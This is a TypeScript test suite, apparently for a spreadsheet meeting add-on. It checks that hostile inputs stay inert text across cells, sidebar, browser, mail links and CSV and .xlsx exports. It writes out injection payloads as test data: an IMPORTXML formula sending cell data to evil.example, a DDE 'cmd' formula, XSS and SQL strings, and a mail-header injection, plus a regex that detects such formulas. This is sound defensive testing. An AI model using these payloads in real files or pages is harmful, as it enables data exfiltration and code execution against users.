/** Text that would like to be something else: stored as text, carried as text, shown as text, exported as text. */

import { readFileSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { sidebarPage } from '../../src/addon/sidebar-page';
import type { Edit } from '../../src/contract/calls';
import type { MeetingScreen } from '../../src/contract/state';
import { mailLink } from '../../src/core/shared/links';
import { COL, itemKey } from '../../src/sheet/grid/grid';
import { HIDDEN } from '../../src/sheet/grid/hidden';
import { csvText } from '../../src/sidebar/export/csv';
import { readAsIn } from '../../src/sidebar/fields/language';
import { recapOf } from '../../src/sidebar/meeting/finished-view';
import { loadProject, runExecution } from '../../workbench/runtime';
import { workbookToXlsx } from '../../workbench/server/xlsx';
import { closeBrowser, openSidebar } from '../sidebar/harness';
import { closeAll, closeStage, DIST, MANAGER, meeting, NOVEMBER, openTeam, startMonth } from '../support/addon';
import { tally } from '../support/soak';

// There is no browser here to say its language.
readAsIn('en-GB');

type Team = Awaited<ReturnType<typeof openTeam>>;

const SCRIPT = '<img src=x onerror="alert(1)"><script>alert(2)</script></textarea><b id="injected">b</b>';
const HOSTILE = [
  '=1+1',
  '=IMPORTXML("http://evil.example/?"&A1;"//a")',
  '=HYPERLINK("http://evil.example";"click")',
  '+1-1',
  '-2+3',
  '@SUM(A1)',
  '00123',
  '1/2',
  '3-4',
  '1e5',
  '50%',
  'TRUE',
  '\t=1+1',
  '"; DROP TABLE deals; --',
  SCRIPT,
  '<?= 1 ?><!-- --><![CDATA[x]]>',
  'it\'s “quoted” \\ "double" 100%',
  '\u202Eright to left\u202C',
  'zero\u200Bwidth\u200D\uFEFFhere',
  'שלום عالم',
  '$'.concat('{1+1} {{1+1}} %s %n'),
  '👩‍👩‍👧‍👦 \uD83D\uDE80',
  'x'.repeat(50_000),
];
/** Outside of text columns a cell takes a little less. */
const short = (text: string) => text.slice(0, 49_999);
const NAMES = [
  `O'Brien "Quote" 100%`,
  '<b>Bob</b>',
  `Zoë ='Q1'!A1`,
  '\u202Eomar\u202C عمر',
  'Constructor __proto__',
  '=1+1 Kim',
];

let team: Team;
let screen: MeetingScreen;
const tabs = () => NAMES.map((name) => team.sheet[name]!);

beforeAll(async () => {
  team = await openTeam(NAMES.join('\n'));
  const first = await meeting(team, tabs()[0]!, 202611);
  const edits: Edit[] = [];
  HOSTILE.forEach((text, n) => {
    for (const field of ['who', 'why', 'next'] as const) edits.push({ key: `new:n${n}`, field, was: '', now: text });
    edits.push({ key: `new:n${n}`, field: n % 2 ? 'amount' : 'when', was: '', now: short(text) });
    edits.push(
      { key: `todo:t${n}`, field: 'who', was: '', now: text },
      { key: `todo:t${n}`, field: 'next', was: '', now: text },
    );
    for (const field of ['who', 'why', 'next'] as const)
      edits.push({ key: `grow:g${n}`, field, was: '', now: text, coaching: 'plan' });
    if (n < 4) edits.push({ key: `working:w${n}`, field: 'who', was: '', now: text });
  });
  for (const [name, text] of [
    ['observed', SCRIPT],
    ['focus', '=1+1'],
    ['takeaway', `${SCRIPT}\n=cmd|' /C calc'!A0`],
    ['nextDate', '=TODAY()'],
    ['plan', '@SUM(1)'],
    ['review', '<script>'],
    ['seen', '+1+1'],
    ['help', '=IMPORTXML("x";"y") <script>'],
    ['brings', '@SUM(1)'],
  ])
    edits.push({ key: `text:${name}`, field: 'when', was: '', now: text! });
  const saved = await team.player.call('saveEdits', {
    sheetId: tabs()[0]!,
    repId: first.rep.repId,
    month: 202611,
    edits,
  });
  expect(saved.outcomes.filter(({ outcome }) => outcome !== 'saved')).toEqual([]);
  const pin = { sheetId: tabs()[0]!, repId: first.rep.repId, month: 202611 };
  await team.player.call('setClock', { ...pin, action: { act: 'start', section: 'new' }, actionId: 's' });
  screen = await meeting(team, tabs()[0]!, 202611);
  await startMonth(team, tabs()[0]!, 202612);
  tally({ kind: 'hostile text', what: 'texts in cells', cases: edits.length, lost: 0 });
});

afterAll(async () => {
  closeStage(team);
  await closeBrowser();
  await closeAll();
});

/** What stands in a person's cells of a month, by key and column. */
async function cellsOf(month: number): Promise<Map<string, { v: unknown; f: string }>> {
  const found = new Map<string, { v: unknown; f: string }>();
  const sheet = team.engine.sheets().find(({ id }) => id === tabs()[0])!;
  const cells = await team.engine.read(sheet.id, { row: 1, col: 1, rows: sheet.lastRow, cols: sheet.maxCols });
  for (const line of cells) {
    if (line[HIDDEN.month - 1]?.v !== month) continue;
    line.forEach((cell, c) => void found.set(`${line[HIDDEN.key - 1]?.v} ${c + 1}`, cell));
  }
  return found;
}

test('each text lies in its cell as it was typed, in the month and in the next one', async () => {
  const november = await cellsOf(202611);
  const december = await cellsOf(202612);
  HOSTILE.forEach((text, n) => {
    const odd = n % 2 ? COL.amount : COL.when;
    for (const col of [COL.who, COL.why, COL.next, odd]) {
      const cell = { v: col === odd ? short(text) : text, f: '' };
      expect([n, col, november.get(`new:n${n} ${col}`)]).toEqual([n, col, cell]);
      expect([n, col, december.get(`existing:n${n} ${col}`)]).toEqual([n, col, cell]);
    }
    expect(december.get(`todo:t${n} ${COL.who}`)).toEqual({ v: text, f: '' });
    for (const col of [COL.who, COL.why, COL.next])
      expect(december.get(`grow:g${n} ${col}`)).toEqual({ v: text, f: '' });
  });
  expect(december.get(`focus ${COL.when}`)).toEqual({ v: '=1+1', f: '' });
  expect(november.get(`text:nextDate ${COL.when}`)).toEqual({ v: '=TODAY()', f: '' });
  expect(november.get(`text:seen ${COL.when}`)).toEqual({ v: '+1+1', f: '' });
  expect(november.get(`text:brings ${COL.when}`)).toEqual({ v: '@SUM(1)', f: '' });
  expect(december.get(`other:help202611 ${COL.who}`)).toEqual({
    v: 'Help in November: =IMPORTXML("x";"y") <script>. How did it go?',
    f: '',
  });
});

test('no formula in the workbook but the add-on’s own; names stand in them quoted and break none', async () => {
  for (const sheet of team.engine.sheets().filter(({ lastRow }) => lastRow > 0)) {
    const cells = await team.engine.read(sheet.id, { row: 1, col: 1, rows: sheet.lastRow, cols: sheet.lastCol });
    const formulas = cells.flat().filter(({ f }) => f !== '');
    // Names on Team lead to their tabs, by a number that the add-on writes.
    expect(formulas.filter(({ f }) => /IMPORTXML|HYPERLINK\((?!"#gid="&INDEX)|cmd\|/i.test(f))).toEqual([]);
    expect([sheet.name, formulas.filter(({ v }) => /^#(REF|NAME|ERROR|VALUE)/.test(String(v)))]).toEqual([
      sheet.name,
      [],
    ]);
  }
  const teamTab = team.engine.sheets().find(({ name }) => name === 'Team')!;
  const shown = (
    await team.engine.displayValues(teamTab.id, { row: 1, col: 1, rows: teamTab.lastRow, cols: 1 })
  ).flat();
  // Marks of direction are no part of a name.
  for (const name of NAMES) expect(shown).toContain(name.replace(/[\u202C\u202E]/g, ''));
});

test('the screen, the recap and the mail say the texts themselves', async () => {
  const rows = screen.block.sections.find(({ id }) => id === 'new')!.rows;
  expect(rows.map((row) => row.cells.who)).toEqual(HOSTILE);
  const pin = { sheetId: tabs()[0]!, repId: screen.rep.repId, month: 202611 };
  const finished = await team.player.call('finishMeeting', { ...pin, actionId: 'f' });
  const { recap } = recapOf(finished.screen as MeetingScreen);
  expect(recap).toContain(SCRIPT);
  const link = mailLink('a@example.com', { subject: `${SCRIPT}\r\nBcc: b@example.com`, body: recap }, '…');
  expect(link).toMatch(/^mailto:a%40example\.com\?subject=[^&<>"\r\n]*&body=[^&<>"\r\n]*$/);
});

test('the page’s first state cannot end its script element', async () => {
  const pages: string[] = [];
  const result = await runExecution({
    engine: team.engine,
    project: await loadProject(DIST, 'Monthly 1:1'),
    functionName: 'openSidebar',
    user: MANAGER,
    nowMs: NOVEMBER,
    selection: { sheetId: tabs()[0]!, ranges: [{ row: 1, col: 1, rows: 1, cols: 1 }], current: { row: 1, col: 1 } },
    ui: { show: (effect) => void pages.push(effect.kind === 'sidebar' ? effect.page.html : '') },
  });
  expect(result.outcome).toMatchObject({ ok: true });
  // With the longest of the texts in so many fields the state is too large for the page, and is asked for later.
  expect(pages.join()).toContain('id="first-state">null<');
  const shorter = JSON.parse(JSON.stringify(screen), (_, value) =>
    typeof value === 'string' && value.length > 1000 ? value.slice(0, 1000) : value,
  ) as unknown;
  const page = sidebarPage(readFileSync(path.join(DIST, 'sidebar.html'), 'utf8'), shorter);
  const [, state = ''] = /<script[^>]*id="first-state"[^>]*>(.*?)<\/script>/s.exec(page) ?? [];
  expect(JSON.parse(state)).toEqual(shorter);
  expect(state).toContain('onerror=');
  expect(page).not.toMatch(/<img src="?x|<script>alert|<b id=/);
});

test('in a real browser: shown as text, no element injected, no dialog opened', async () => {
  const { page, close } = await openSidebar(screen);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const visited: string[] = [];
  for (let n = 0; n < 8; n++) {
    visited.push((await page.locator('.sidebar').textContent()) ?? '');
    const injected = () => document.querySelectorAll('#injected, img[src], body script script').length;
    expect(await page.evaluate(injected)).toBe(0);
    await page.keyboard.press('Alt+ArrowRight');
  }
  const typed = await page.evaluate(() =>
    [...document.querySelectorAll('textarea, input')].map((e) => (e as HTMLInputElement).value),
  );
  expect(typed.concat(visited).some((text) => text.includes('<img src=x onerror='))).toBe(true);
  expect(dialogs).toEqual([]);
  await close();
});

test('in the CSV no text begins like a formula, and each comes out of a reader as it went in', async () => {
  const part = await team.player.call('exportRecord', { sheetId: tabs()[0]! });
  const lines = part.rows.commitments.map((line) => line.map((cell) => (typeof cell === 'string' ? cell : '')));
  const read = Papa.parse<string[]>(csvText(part.columns!.commitments, part.rows.commitments).trimEnd()).data.slice(1);
  expect(read.length).toBe(lines.length);
  expect(read.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  const plain = read.map((line) => line.map((cell) => cell.replace(/^'(?=[=+\-@\t\r])/, '')));
  for (const text of HOSTILE) expect(plain.flat()).toContain(text.trim());
});

test('in the .xlsx every text is a text', async () => {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load((await workbookToXlsx(team.engine)) as unknown as ArrayBuffer);
  const texts = new Map<string, unknown>();
  for (const sheet of book.worksheets)
    sheet.eachRow((row) => {
      const key = String(row.getCell(HIDDEN.key).value ?? '');
      if (itemKey(key)?.section === 'existing') texts.set(key, row.getCell(COL.why).value);
    });
  // Excel takes a file for damaged that has a longer text than this in a cell.
  const whole = (text: string) => (text.length > 32_767 ? `${text.slice(0, 32_766)}…` : text);
  expect(HOSTILE.map((_, n) => texts.get(`existing:n${n}`))).toEqual(HOSTILE.map(whole));
});
